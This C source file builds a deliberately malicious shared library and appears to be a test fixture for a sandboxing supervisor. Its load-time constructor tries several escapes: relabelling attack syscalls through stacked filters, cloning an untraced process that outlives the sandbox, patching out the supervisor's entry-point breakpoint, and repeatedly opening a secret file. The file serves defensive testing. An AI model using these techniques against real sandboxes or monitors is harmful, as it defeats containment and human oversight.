/*
 * evil.c: libevil.so, the malicious library the victim needs (DT_NEEDED).
 * Its constructor runs after the kernel's exec and before the victim's
 * entry point, in the supervisor's start-up window, and attacks according
 * to ESC_MODE:
 *
 *   relabel        stack a filter relabelling the attack syscalls with
 *                  ESC_TAG, then make the attempts (esc.h)
 *   relabel-main   stack the filter only: main() makes the attempts
 *   relabel-clone  relabel clone, then clone(CLONE_UNTRACED) a process
 *                  that outlives the sandbox
 *   open           open ESC_SECRET (not one of the image's own files)
 *   openloop       never return: 200 opens of ESC_SECRET, then _exit(0)
 *   int3           remove the supervisor's int3 at AT_ENTRY, then run the
 *                  program's loop (opening ESC_SECRET) from here
 *   chain          every image of an exec chain opens ESC_SECRET
 */
#include "esc.h"
#include <sys/auxv.h>
#include <sys/mman.h>

#ifndef CLONE_UNTRACED
#define CLONE_UNTRACED 0x00800000
#endif

void evil_linked(void) {}

static void int3(void)
{
	unsigned long entry = getauxval(AT_ENTRY);
	volatile unsigned char *p = (volatile unsigned char *)entry;
	if (*p != 0xcc) {
		say("ctor entry=clean");
	} else {
		/* The byte the int3 replaced: the test reads it from our ELF file. */
		unsigned char orig = (unsigned char)envint("ESC_ENTRY_BYTE", 0xf3);
		void *page = (void *)(entry & ~4095UL);
		say("ctor entry=int3");
		report("ctor", "mprotect-rw", syscall(SYS_mprotect, page, 4096L, PROT_READ | PROT_WRITE));
		*p = orig;
		report("ctor", "mprotect-rx", syscall(SYS_mprotect, page, 4096L, PROT_READ | PROT_EXEC));
		say("ctor unbreak=%s", *p == orig ? "ok" : "failed");
	}
	/* The entry point is never reached: the process stays "starting". */
	open_secret("ctor");
	syscall(SYS_exit_group, 0);
}

__attribute__((constructor)) static void ctor(int argc, char **argv, char **envp)
{
	(void)envp;
	if (mode_is("relabel")) {
		report_relabel("ctor", relabel(attack_nrs, 6));
		attempts("ctor");
	} else if (mode_is("relabel-main")) {
		report_relabel("ctor", relabel(attack_nrs, 6));
	} else if (mode_is("relabel-clone")) {
		static const int nrs[] = {SYS_clone};
		report_relabel("ctor", relabel(nrs, 1));
		int self = (int)syscall(SYS_getpid), parent = (int)syscall(SYS_getppid);
		long pid = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0L, 0L, 0L, 0L);
		if (pid == 0)
			outlive(self, envint("ESC_WATCH_PARENT", 0) ? parent : 0);
		report("ctor", "clone", pid);
	} else if (mode_is("open")) {
		open_secret("ctor");
	} else if (mode_is("openloop")) {
		char prev[32] = "";
		for (int i = 0; i < 200; i++) {
			int fd = (int)syscall(SYS_openat, AT_FDCWD, getenv("ESC_SECRET"), O_RDONLY | O_CLOEXEC);
			const char *now = errname(fd);
			if (fd >= 0)
				close(fd);
			if (strcmp(now, prev) != 0)
				say("ctor open[%d]=%s", i, now);
			snprintf(prev, sizeof prev, "%s", now);
		}
		say("ctor opens=200");
		syscall(SYS_exit_group, 0);
	} else if (mode_is("int3")) {
		int3();
	} else if (mode_is("chain")) {
		char who[32];
		snprintf(who, sizeof who, "image %s", argc > 1 ? argv[1] : "?");
		open_secret(who);
	}
}
